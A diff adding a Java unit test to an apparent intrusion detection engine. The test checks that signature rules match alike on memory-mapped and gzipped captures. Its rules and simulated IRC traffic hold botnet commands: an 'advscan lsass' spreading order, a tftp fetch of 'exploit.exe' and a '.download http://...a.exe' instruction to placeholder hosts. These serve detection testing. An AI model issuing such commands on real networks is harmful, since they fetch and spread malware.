@@ -97,4 +97,35 @@ class StreamRulesFromSegmentScansTest {
         assertEquals(List.of(1L), RuleRuns.sids(out));
         assertTrue(chunksFromSegments(out) > 1);
     }
+
+    /**
+     * Segments of a mapped capture are read where they lie: packets are scanned and kept by their
+     * stream chunks as views of the mapping, never copied unless a rule is verified. A content split
+     * where two large segments meet, one inside a segment, and a packet rule's content are found
+     * alike whether the capture is mapped (views) or gzipped (read into a refilled buffer: copies).
+     */
+    @Test
+    void largeSegmentsReadInPlaceFindWhatCopiesFind() throws IOException {
+        String rules = """
+                alert tcp any any -> any 7000 (msg:"split"; flow:established,to_server; content:"advscan lsass"; sid:1;)
+                alert tcp any any -> any 7000 (msg:"inside"; flow:established,to_server; content:"tftp -i"; sid:2;)
+                alert tcp any any -> any 7000 (msg:"packet"; flow:to_server; dsize:>500; content:"|3a|.download http"; sid:3;)
+                alert tcp any any -> any 7000 (msg:"across"; flow:established,to_server; content:"PRIVMSG #x"; content:"exploit.exe"; distance:0; sid:4;)
+                """;
+        RuleRuns.Script script = w -> greeted(w)
+                .client("a".repeat(700) + " PRIVMSG #x :.advs")
+                .client("can lsass_445 100 " + "b".repeat(700) + " tftp -i 10.0.0.9 GET exploit.exe\r\n")
+                .client("PRIVMSG #x :.download http://192.0.2.4/a.exe " + "c".repeat(600) + "\r\n")
+                .server("ok\r\n").close();
+        EventCollector mapped = RuleRuns.run(dir, PACKET_RULE + rules, Pipelines.options(), script, false);
+        EventCollector gzipped = RuleRuns.run(dir, PACKET_RULE + rules, Pipelines.options(), script, true);
+        assertEquals(List.of(1L, 2L, 3L, 4L), RuleRuns.sids(mapped));
+        assertEquals(RuleRuns.sids(mapped), RuleRuns.sids(gzipped));
+        assertTrue(counter(mapped, "signature.payloads_in_place") >= 4, "payloads read in place");
+        assertEquals(0, counter(gzipped, "signature.payloads_in_place"), "a refilled buffer is copied");
+    }
+
+    static long counter(EventCollector out, String name) {
+        return out.of(StatsEvent.class).stream().mapToLong(s -> s.counters().getOrDefault(name, 0L)).max().orElse(0);
+    }
 }
